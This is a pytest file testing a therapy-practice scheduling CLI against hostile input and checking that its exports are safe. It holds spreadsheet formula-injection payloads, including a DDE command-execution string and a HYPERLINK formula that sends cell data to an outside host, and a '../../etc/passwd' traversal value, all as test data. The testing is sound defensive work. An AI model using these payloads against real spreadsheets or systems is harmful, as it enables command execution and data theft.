"""The command line on hostile input: one line on stderr and exit 2; exports that keep client data safe."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import date
from pathlib import Path

import pytest

from sessionkit import ClientSession, cli
from sessionkit.adapters.sqlite import open_database
from sessionkit.demo import seed_demo

pytest.importorskip("icalendar")

CLIENT_NAMES = ("Ada", "Byron", "Grace", "Hopper", "Alan", "Turing", "Mary", "Jackson")
EVENT = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nBEGIN:VEVENT\r\nUID:{uid}\r\n"
    "DTSTART;TZID=America/New_York:20260310T100000\r\nDURATION:PT45M\r\n{extra}"
    "SUMMARY:Therapy - Ada Byron\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)


@pytest.fixture(autouse=True)
def _no_code_set(monkeypatch: pytest.MonkeyPatch) -> None:
    """No ICD-10-CM code set: these tests are about input, not readiness."""
    monkeypatch.setattr(cli, "_code_set", lambda: None)


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """A database with the demo practice and its 4 saved sessions."""
    path = tmp_path / "practice.db"
    with open_database(path) as database:
        seed_demo(database.unit_of_work())
    return path


def count(path: Path) -> int:
    with open_database(path) as database, database.unit_of_work() as uow:
        return uow.sessions.count()


def one_error_line(capsys: pytest.CaptureFixture[str], argv: list[str]) -> str:
    """Run ``argv``: exit 2, nothing on stdout, one stderr line without client data or traceback."""
    assert cli.main(argv) == 2
    out, err = capsys.readouterr()
    assert out == ""
    lines = err.strip().splitlines()
    assert len(lines) == 1, lines
    assert "Traceback" not in err
    assert not any(name in err for name in CLIENT_NAMES)
    return lines[0]


@pytest.fixture
def calendar(tmp_path: Path) -> Path:
    path = tmp_path / "one.ics"
    path.write_text(EVENT.format(uid="u1", extra=""), encoding="utf-8")
    return path


@pytest.mark.parametrize("zone", ["A" * 300, "Europe/" + "x" * 300, "a\x00b", "../../etc/passwd"])
def test_a_long_or_strange_tz_is_bad_input(
    zone: str, db: Path, calendar: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--tz of 300 characters (a traceback in the issue): argparse's usage line and one error line, exit 2."""
    assert cli.main(["import", str(calendar), "--db", str(db), "--tz", zone]) == 2
    err = capsys.readouterr().err
    lines = err.strip().splitlines()
    assert len(lines) == 2
    assert lines[0].startswith("usage: sessionkit")
    assert "argument --tz: not an IANA time zone" in lines[1]
    assert "Traceback" not in err


@pytest.mark.parametrize("argument", ["FILE", "--db", "--client-map"])
def test_paths_over_255_characters_are_bad_input(
    argument: str, db: Path, calendar: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A FILE, --db or --client-map path over 255 characters: one line naming the argument, exit 2 (was 3)."""
    long = str(tmp_path / ("p" * 300))
    argv = {
        "FILE": ["import", long + ".ics", "--db", str(db)],
        "--db": ["import", str(calendar), "--db", long],
        "--client-map": ["import", str(calendar), "--db", str(db), "--client-map", long],
    }[argument]
    line = one_error_line(capsys, argv)
    assert f"(argument {argument})" in line


def test_an_export_path_over_255_characters_is_bad_input(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """export --output with a 300-character name: one line naming --output, exit 2."""
    line = one_error_line(capsys, ["export", "--db", str(db), "--format", "csv", "--output", "o" * 300])
    assert "(argument --output)" in line


@pytest.mark.parametrize(
    "dates",
    [
        ["--from", "0001-01-01", "--to", "9999-12-31"],
        ["--to", "0001-01-01"],
        ["--from", "0001-01-01", "--to", "0001-01-01"],
        ["--from", "9999-12-31", "--to", "9999-12-31"],
    ],
)
def test_dates_at_the_edges_import_without_overflow(
    dates: list[str], db: Path, calendar: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--from 0001-01-01, --to 9999-12-31 (OverflowError, exit 3 in the issue): the import runs, exit 0."""
    assert cli.main(["import", str(calendar), "--db", str(db), *dates]) == 0
    out = capsys.readouterr().out
    wide = dates[1] == "0001-01-01" and dates[-1] == "9999-12-31"
    assert ("1 created" in out) is wide
    assert count(db) == 4 + wide


def test_a_too_large_calendar_or_client_map_names_the_argument(
    db: Path, calendar: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--max-bytes: a larger FILE or --client-map is one line naming the argument and the option."""
    line = one_error_line(capsys, ["import", str(calendar), "--db", str(db), "--max-bytes", "100"])
    assert "(argument FILE; the limit is set with --max-bytes)" in line
    mapping = tmp_path / "map.csv"
    mapping.write_text("match,client_id\n" + "Ada Byron,c-1001\n" * 20, encoding="utf-8")
    line = one_error_line(
        capsys, ["import", str(calendar), "--db", str(db), "--client-map", str(mapping), "--max-bytes", "200"]
    )
    assert "(argument --client-map; the limit is set with --max-bytes)" in line


def test_sub_daily_and_occurrence_limits_from_the_command_line(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A minutely series is one invalid line by default; --allow-sub-daily with --max-occurrences caps it."""
    path = tmp_path / "minutely.ics"
    path.write_text(EVENT.format(uid="m1", extra="RRULE:FREQ=MINUTELY\r\n"), encoding="utf-8")
    base = ["import", str(path), "--db", str(db), "--from", "2026-03-01", "--to", "2026-03-31"]
    assert cli.main(base) == 0
    out = capsys.readouterr().out
    assert "more often than daily (MINUTELY)" in out
    assert cli.main([*base, "--allow-sub-daily", "--max-occurrences", "50"]) == 0
    assert "more than 50 occurrences" in capsys.readouterr().out
    assert count(db) == 4


def test_a_short_csv_key_secret_is_bad_input(
    db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """SESSIONKIT_CSV_KEY_SECRET shorter than 16 characters: one line naming the variable, exit 2."""
    path = tmp_path / "rows.csv"
    path.write_text("title,start,duration_minutes\nAda Byron,2026-03-10 10:00,45\n", encoding="utf-8")
    monkeypatch.setenv(cli.CSV_KEY_SECRET_ENV, "short")
    line = one_error_line(capsys, ["import", str(path), "--db", str(db), "--to", "2026-03-31"])
    assert cli.CSV_KEY_SECRET_ENV in line
    monkeypatch.setenv(cli.CSV_KEY_SECRET_ENV, "s" * 32)
    assert cli.main(["import", str(path), "--db", str(db), "--to", "2026-03-31"]) == 0
    [created] = [s for s in sessions(db) if s.appointment_key and s.appointment_key.startswith("csv-")]
    assert created.appointment_key.startswith("csv-20260310T100000-")  # type: ignore[union-attr]


def sessions(path: Path) -> list[ClientSession]:
    with open_database(path) as database, database.unit_of_work() as uow:
        return uow.sessions.list()


# -- exports ------------------------------------------------------------------------------------

# (a tab or CR at the start of a cell is stripped by the CSV calendar: tests/unit/test_records_csv.py)
FORMULAS = ['=HYPERLINK("http://x/?"&B2&C2,"open")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]


def _exported_rows(db: Path, capsys: pytest.CaptureFixture[str]) -> list[dict[str, str]]:
    capsys.readouterr()
    assert cli.main(["export", "--db", str(db), "--format", "csv"]) == 0
    return list(csv.DictReader(io.StringIO(capsys.readouterr().out)))


def _no_live_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for cell in [*row, *row.values()]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_export_csv_neutralises_a_formula_uid_from_an_ics(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The issue's UID =HYPERLINK(...) becomes the key; export --format csv writes it with a leading '."""
    path = tmp_path / "formula.ics"
    uid = '=HYPERLINK("http://x/?"&B2&C2\\,"open")'
    path.write_text(EVENT.format(uid=uid, extra=""), encoding="utf-8")
    assert cli.main(["import", str(path), "--db", str(db), "--from", "2026-03-01", "--to", "2026-03-31"]) == 0
    rows = _exported_rows(db, capsys)
    keys = [r["appointment_key"] for r in rows if r["appointment_key"]]
    assert keys == ['\'=HYPERLINK("http://x/?"&B2&C2,"open")']
    _no_live_formula(rows)


@pytest.mark.parametrize("uid", FORMULAS)
def test_export_csv_neutralises_every_formula_start(
    uid: str, db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Keys starting with = + - @ tab or CR (from a CSV calendar's uid column) are exported with a leading '."""
    path = tmp_path / "rows.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerows(
        [["uid", "title", "start", "duration_minutes"], [uid, "Ada Byron", "2026-03-10 10:00", "45"]]
    )
    path.write_text(buffer.getvalue(), encoding="utf-8", newline="")
    assert cli.main(["import", str(path), "--db", str(db), "--from", "2026-03-01", "--to", "2026-03-31"]) == 0
    rows = _exported_rows(db, capsys)
    keys = [r["appointment_key"] for r in rows if r["appointment_key"]]
    assert keys == ["'" + uid.strip()]
    _no_live_formula(rows)


def test_export_output_is_created_0600(db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """export --output creates the file with mode 0600 (client data), whatever the umask."""
    target = tmp_path / "out.csv"
    old = os.umask(0o022)
    try:
        assert cli.main(["export", "--db", str(db), "--format", "csv", "--output", str(target)]) == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert "wrote 4 sessions" in capsys.readouterr().err
    assert len(list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))) == 4


def test_export_output_refuses_a_symbolic_link(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--output that is a symbolic link (to an existing file or to nowhere): refused, the target untouched."""
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    for name, points_to in (("link.csv", victim), ("dangling.csv", tmp_path / "nowhere.csv")):
        link = tmp_path / name
        link.symlink_to(points_to)
        line = one_error_line(capsys, ["export", "--db", str(db), "--format", "csv", "--output", str(link)])
        assert "symbolic link" in line
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert not (tmp_path / "nowhere.csv").exists()


def test_export_output_refuses_the_database_it_reads(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """--output naming the database (also by another path): refused, the database bytes unchanged."""
    before = db.read_bytes()
    monkeypatch.chdir(tmp_path)
    for output in (str(db), db.name, f"./{db.name}"):
        line = one_error_line(capsys, ["export", "--db", str(db), "--format", "json", "--output", output])
        assert "the database being read" in line
    assert db.read_bytes() == before
    assert count(db) == 4


def test_export_over_an_existing_file_replaces_it_and_makes_it_0600(db: Path, tmp_path: Path) -> None:
    """An existing regular output file is replaced (its content, as before) and set to mode 0600."""
    target = tmp_path / "out.json"
    target.write_text("old" * 1000, encoding="utf-8")
    target.chmod(0o644)
    assert cli.main(["export", "--db", str(db), "--format", "json", "--output", str(target)]) == 0
    assert target.read_text(encoding="utf-8").startswith("{")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_import_dates_are_kept_for_the_default_range(db: Path, calendar: Path) -> None:
    """Without --from the range is 90 days before --to (unchanged)."""
    assert cli.main(["import", str(calendar), "--db", str(db), "--to", "2026-03-31"]) == 0
    assert [s.date_of_service for s in sessions(db) if s.appointment_key == "u1"] == [date(2026, 3, 10)]
